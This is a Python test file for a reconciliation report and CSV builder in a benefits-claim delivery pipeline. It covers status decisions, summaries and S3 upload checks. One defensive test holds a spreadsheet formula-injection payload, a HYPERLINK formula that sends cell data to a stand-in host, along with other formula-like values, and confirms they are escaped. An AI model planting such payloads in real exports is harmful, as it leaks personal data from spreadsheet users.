"""The reconciliation report builder (include/form526/delivery/report.py): status decisions, summary, CSVs."""

from __future__ import annotations

import csv
import io

import pytest

from include.form526.delivery import ledger
from include.form526.delivery.object_store import Listed
from include.form526.delivery.report import (
    REPORT_COLUMNS,
    CsvOut,
    Row,
    Tally,
    final_row,
    reconciliation_csv,
    summarize,
    summary_table,
    unconfirmed,
)

RUN = "manual__1"


def item(status: str, **kw):
    base = {"submission_id": 1, "status": status, "batch_no": 3, "duplicate_of": None, "detail": None,
            "state": None, "s3_bucket": None, "s3_key": None, "sha256": None, "bytes": None, "last_run_id": None,
            "batch_id": None, "last_error_code": None, "last_error_detail": None, "claimed_by": None,
            "claim_live": None}
    return {**base, **kw}


def test_uploaded_by_this_run():
    r = final_row(item("queued", state="uploaded", last_run_id=RUN, s3_bucket="b", s3_key="k", sha256="s",
                       bytes=10), RUN)
    assert (r.status, r.batch_id, r.s3_key, r.bytes) == ("uploaded", "0003", "k", 10)


def test_uploaded_by_another_run_meanwhile_is_already_delivered():
    r = final_row(item("queued", state="uploaded", last_run_id="other", s3_key="k"), RUN)
    assert r.status == "skipped_already_delivered"


def test_failed_in_this_run_keeps_code_and_detail():
    r = final_row(item("queued", state="failed", last_run_id=RUN, last_error_code="file_number_invalid",
                       last_error_detail="file number is invalid. It must be 8 or 9 digits"), RUN)
    assert (r.status, r.error_code) == ("failed", "file_number_invalid")


def test_claimed_by_a_live_other_run_is_in_progress():
    r = final_row(item("queued", state="claimed", last_run_id="other", claim_live=True), RUN)
    assert r.status == "skipped_in_progress"


def test_never_reached_is_a_failure_of_this_run():
    for state in ("queued", "claimed", None):
        r = final_row(item("queued", state=state, last_run_id=RUN), RUN)
        assert (r.status, r.error_code) == ("failed", "batch_incomplete")


def test_plan_statuses_pass_through():
    assert final_row(item("skipped_duplicate", duplicate_of=9), RUN).duplicate_of == 9
    assert final_row(item("not_eligible", detail="source state is success, not failed"), RUN).error_detail
    assert final_row(item("requested"), RUN).status == "not_found"
    assert final_row(item("planned"), RUN).status == "planned"


def test_summary_counts_and_failure_share():
    rows = [Row(1, "uploaded", "0001"), Row(2, "uploaded", "0001"), Row(3, "failed", "0002", error_code="x"),
            Row(4, "skipped_duplicate", duplicate_of=1), Row(5, "not_found")]
    s = summarize(RUN, rows, dry_run=False, remaining=7)
    assert s.by_status == {"uploaded": 2, "failed": 1, "skipped_duplicate": 1, "not_found": 1}
    assert s.failure_percent == 33.33 and s.batches == 2 and s.remaining_backlog == 7
    assert s.by_error_code == {"x": 1}
    assert "remaining backlog after this run: 7" in summary_table(s)


def test_csv_has_the_agreed_columns():
    out = reconciliation_csv([Row(1, "uploaded", "0001", "b", "k", "s", 10), Row(2, "skipped_duplicate",
                                                                                  duplicate_of=1)])
    rows = list(csv.DictReader(io.StringIO(out.decode())))
    assert tuple(rows[0]) == REPORT_COLUMNS
    assert rows[1]["duplicate_of"] == "1" and rows[1]["bytes"] == ""


class FakeStore:
    """A listing and HEAD answers, counting the HEADs."""

    def __init__(self, listing: dict[str, tuple[int, str]], heads_ok: set[str]):
        self.listing, self.heads_ok, self.heads, self.listed = listing, heads_ok, [], []

    def iter_listing(self, bucket, prefix, start_after=None):
        self.listed.append(prefix)
        for k in sorted(self.listing):
            if k.startswith(prefix) and (start_after is None or k > start_after):
                yield Listed(k, *self.listing[k])

    def matches(self, bucket, key, size, sha, checksum=None):
        self.heads.append(key)
        return key in self.heads_ok


def up(sid, key, md5="m", size=1):
    return Row(sid, "uploaded", "0001", "b", key, "s", size, md5=md5)


def test_verify_uses_the_listing_when_the_etag_is_the_md5():
    store = FakeStore({"p/deliveries/r/batch-0001/1.zip": (1, "m")}, heads_ok=set())
    assert list(unconfirmed([up(1, "p/deliveries/r/batch-0001/1.zip")], store)) == [] and store.heads == []


def test_verify_finds_missing_or_resized_objects():
    store = FakeStore({"p/deliveries/r/batch-0001/2.zip": (99, "m")}, heads_ok=set())
    rows = [up(1, "p/deliveries/r/batch-0001/1.zip"), up(2, "p/deliveries/r/batch-0001/2.zip"), Row(3, "not_found")]
    assert list(unconfirmed(rows, store)) == [1, 2]


def test_an_unconfirmed_upload_marked_in_the_ledger_reports_as_failed():
    r = final_row(item("queued", state="failed", last_run_id=RUN, last_error_code="not_confirmed_in_s3",
                       last_error_detail=ledger.NOT_CONFIRMED_DETAIL, s3_key="k"), RUN)
    assert (r.status, r.batch_id, r.error_code, r.s3_key) == ("failed", "0003", "not_confirmed_in_s3", "")
    assert r.error_detail == "the ledger said uploaded but S3 does not hold the same bytes"


def test_verify_falls_back_to_head_when_the_etag_is_not_an_md5():
    key = "p/deliveries/r/batch-0001/1.zip"
    good = FakeStore({key: (1, "kms-etag")}, heads_ok={key})
    assert list(unconfirmed([up(1, key)], good)) == [] and good.heads == [key]
    bad = FakeStore({key: (1, "kms-etag")}, heads_ok=set())
    assert list(unconfirmed([up(1, key)], bad)) == [1]
    legacy = FakeStore({key: (1, "m")}, heads_ok={key})  # written before the ledger kept MD5s
    assert list(unconfirmed([up(1, key, md5="")], legacy)) == [] and legacy.heads == [key]


def test_report_and_manifest_cells_cannot_run_as_spreadsheet_formulas():
    from include.form526.delivery.batch import manifest_csv
    from include.form526.delivery.report import handoff_csv

    evil = '=HYPERLINK("https://x.example/?"&I3,"Jane")'
    manifest = manifest_csv([{"submission_id": 1, "s3_key": "k", "sha256": "s", "bytes": 3,
                              "veteran_first_name": evil, "veteran_last_name": "@SUM(A1)", "ssn": "+1",
                              "birth_date": "-2", "file_number": "\tx", "participant_id": "\rY"}]).decode()
    assert "'\rY" in manifest
    row = list(csv.reader(io.StringIO(manifest, newline="")))[1]
    assert row[4:9] == ["'" + evil, "'@SUM(A1)", "'-2", "'\tx", "'+1"]
    bad = Row(7, "failed", error_code="=cmd", error_detail="-1+1")
    cells = list(csv.reader(io.StringIO(reconciliation_csv([bad]).decode())))[1]
    assert cells[6:8] == ["'=cmd", "'-1+1"] and cells[0] == "7"
    assert list(csv.reader(io.StringIO(handoff_csv([(1, "=x")]).decode())))[1] == ["1", "'=x"]


def test_the_merge_join_walks_each_folder_listing_once_alongside_the_sorted_rows():
    ok = {f"p/deliveries/r{r}/batch-000{b}/{i}.zip": (1, "m") for r in (1, 2) for b in (1, 2) for i in range(20)}
    listing = {**ok, "p/deliveries/r1/batch-0001/manifest.csv": (5, "x"), "p/deliveries/r2/batch-0002/é.zip": (1, "m")}
    del listing["p/deliveries/r1/batch-0002/7.zip"]                          # gone from S3
    listing["p/deliveries/r2/batch-0001/3.zip"] = (2, "m")                   # another size
    store = FakeStore(listing, heads_ok=set())
    rows = sorted((up(n, k) for n, k in enumerate([*ok, "p/deliveries/r2/batch-0002/é.zip",
                                                   "p/deliveries/r2/batch-0002/z.zip"])),
                  key=lambda r: r.s3_key)
    ids = set(unconfirmed(rows, store))
    bad = {r.s3_key for r in rows if r.submission_id in ids}
    assert bad == {"p/deliveries/r1/batch-0002/7.zip", "p/deliveries/r2/batch-0001/3.zip",
                   "p/deliveries/r2/batch-0002/z.zip"}
    assert store.listed == ["p/deliveries/r1/", "p/deliveries/r2/"] and store.heads == []


def test_the_merge_join_refuses_rows_out_of_key_order():
    rows = [up(1, "p/deliveries/r/batch-0001/2.zip"), up(2, "p/deliveries/r/batch-0001/1.zip")]
    with pytest.raises(ValueError, match="not sorted"):
        list(unconfirmed(rows, FakeStore({}, heads_ok=set())))


def test_streamed_csv_and_tally_equal_the_in_memory_builders():
    rows = [Row(1, "uploaded", "0001", "b", "k", "s", 10, attachments=2, missing_evidence={"too_large": 1}),
            Row(2, "failed", "0002", error_code="=x"), Row(3, "skipped_duplicate", duplicate_of=1)]
    sink = io.BytesIO()
    out = CsvOut(sink, REPORT_COLUMNS)
    tally = Tally()
    for r in rows:
        out.row(r.csv_row())
        tally.add(r)
    assert sink.getvalue() == reconciliation_csv(rows) and out.rows == 3
    assert tally.summary(RUN, dry_run=False, remaining=4) == summarize(RUN, rows, dry_run=False, remaining=4)
    assert tally.summary(RUN, dry_run=False, remaining=4).missing_evidence == {"too_large": 1}


def test_heads_beyond_the_window_are_all_answered():
    keys = [f"p/deliveries/r/batch-0001/{i:02d}.zip" for i in range(10)]
    store = FakeStore({k: (1, "kms-etag") for k in keys}, heads_ok=set(keys[::2]))
    bad = list(unconfirmed([up(i, k) for i, k in enumerate(keys)], store, threads=2, window=2))
    assert sorted(bad) == [1, 3, 5, 7, 9] and sorted(store.heads) == keys
